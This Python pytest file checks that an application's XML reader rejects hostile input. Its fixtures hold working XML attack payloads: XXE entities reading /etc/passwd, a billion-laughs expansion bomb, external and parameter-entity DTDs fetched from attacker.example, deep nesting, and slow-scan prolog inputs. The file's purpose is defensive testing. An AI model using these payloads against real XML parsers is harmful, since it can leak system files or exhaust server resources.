"""Hostile XML: DTDs, external entities (XXE), entity expansion (billion laughs), deep nesting."""

from __future__ import annotations

import time

import pytest

from workflowapp.context import dataset, read_context, recordset
from workflowapp.errors import ContextError

XXE = """<?xml version="1.0"?>
<!DOCTYPE NewDataSet [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<NewDataSet><parameter><name>P</name><dataType>TEXT</dataType><direction>IN</direction>
<textValue>&x;</textValue></parameter></NewDataSet>"""

_LOL = "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
)
BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol0 "lol">{_LOL}]>
<NewDataSet><parameter a="&lol9;"><name>&lol9;</name></parameter></NewDataSet>"""

HOSTILE = {
    "xxe": XXE,
    "billion-laughs": BILLION_LAUGHS,
    "external-dtd": '<!DOCTYPE NewDataSet SYSTEM "http://attacker.example/x.dtd"><NewDataSet/>',
    "parameter-entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><x/>',
    "after-comment": '<!-- hello --><?pi x?>\n<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
    "plain-doctype": "<!DOCTYPE NewDataSet><NewDataSet/>",
    "recordset-xxe": '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                     '<xml xmlns:rs="urn:schemas-microsoft-com:rowset" xmlns:z="#RowsetSchema">'
                     '<rs:data><z:row PARAM="&x;" DATATYPE="TEXT" DIRECTION="IN"/></rs:data></xml>',
}


@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("encoding", ["str", "utf-8", "utf-16"])
def test_dtds_are_refused(document: str, encoding: str) -> None:
    body: str | bytes = document if encoding == "str" else document.encode(encoding)
    started = time.perf_counter()
    with pytest.raises(ContextError, match="DTDs and entity declarations are not allowed"):
        read_context(body)
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize("reader", [dataset.read, recordset.read])
def test_format_readers_refuse_dtds_too(reader: object) -> None:
    with pytest.raises(ContextError, match="DTDs and entity declarations"):
        reader(XXE)  # type: ignore[operator]


def test_file_content_never_leaks() -> None:
    with pytest.raises(ContextError) as caught:
        read_context(XXE.replace("&x;", "&x;&x;"))
    assert "root:" not in caught.value.message


def test_deep_nesting_is_refused() -> None:
    deep = "<a>" * 10_000 + "</a>" * 10_000
    with pytest.raises(ContextError, match="not well-formed XML"):
        read_context(deep)


def test_undeclared_entities_are_errors() -> None:
    with pytest.raises(ContextError, match="Entity 'x' not defined"):
        read_context("<NewDataSet>&x;</NewDataSet>")


def test_doctype_check_after_parsing_backs_up_the_prefilter() -> None:
    from lxml import etree

    from workflowapp.context import _xml

    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    with pytest.raises(ContextError, match="DTDs and entity declarations"):
        _xml._checked('<!DOCTYPE x [<!ENTITY a "b">]><x/>', parser)


@pytest.mark.parametrize(
    "document",
    [
        "<!-- c -->" + " " * 100_000 + "<NewDataSet/>",
        "<!-- c -->" + " \n" * 50_000 + "<!-- d --><?pi?>" + "\t" * 50_000 + "<NewDataSet/>",
        "<!-- never closed " + "-" * 200_000,
        "<?pi never closed " + "?" * 200_000,
    ],
    ids=["spaces", "mixed", "open-comment", "open-pi"],
)
def test_prolog_scan_is_linear(document: str) -> None:
    started = time.perf_counter()
    try:
        read_context(document)
        read_context(document.encode())
    except ContextError:
        pass
    assert time.perf_counter() - started < 0.5
